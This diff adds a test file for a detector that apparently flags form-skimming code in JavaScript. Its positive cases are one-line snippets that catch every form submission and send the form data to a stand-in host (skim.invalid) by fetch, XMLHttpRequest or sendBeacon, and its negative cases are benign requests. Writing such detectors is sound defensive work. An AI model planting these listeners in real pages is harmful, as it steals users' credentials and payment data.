@@ -1,0 +1,43 @@
+import { examine } from '../../../test/examine.ts';
+import { skimsForms } from './skims-forms.ts';
+
+examine(skimsForms, {
+  speaks: [
+    {
+      when: 'a form is sent elsewhere',
+      files: {
+        'index.js': `document.addEventListener('submit', e => fetch('https://skim.invalid/', { method: 'POST', body: new FormData(e.target) }))`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'by an older request',
+      files: {
+        'index.js': `document.querySelector('form').onsubmit = () => { const x = new XMLHttpRequest(); x.open('POST', 'https://skim.invalid/'); x.send(new FormData(document.forms[0])) }`,
+      },
+    },
+    {
+      when: 'by a beacon',
+      files: {
+        'index.js': `document.addEventListener('submit', e => navigator.sendBeacon('https://skim.invalid/', new FormData(e.target)))`,
+      },
+      weight: 'proof',
+    },
+  ],
+  silent: [
+    {
+      when: 'the caller says where to',
+      files: { 'index.js': `exports.send = (url, form) => fetch(url, { method: 'POST', body: new FormData(form) })` },
+    },
+    {
+      when: 'it goes to the page itself',
+      files: { 'index.js': `document.addEventListener('submit', e => fetch('/api', { method: 'POST', body: new FormData(e.target) }))` },
+    },
+    {
+      when: 'a form is made by code',
+      files: {
+        'index.js': `const d = new FormData(); d.append('file', 'inert'); fetch('https://api.invalid/', { method: 'POST', body: d })`,
+      },
+    },
+  ],
+});
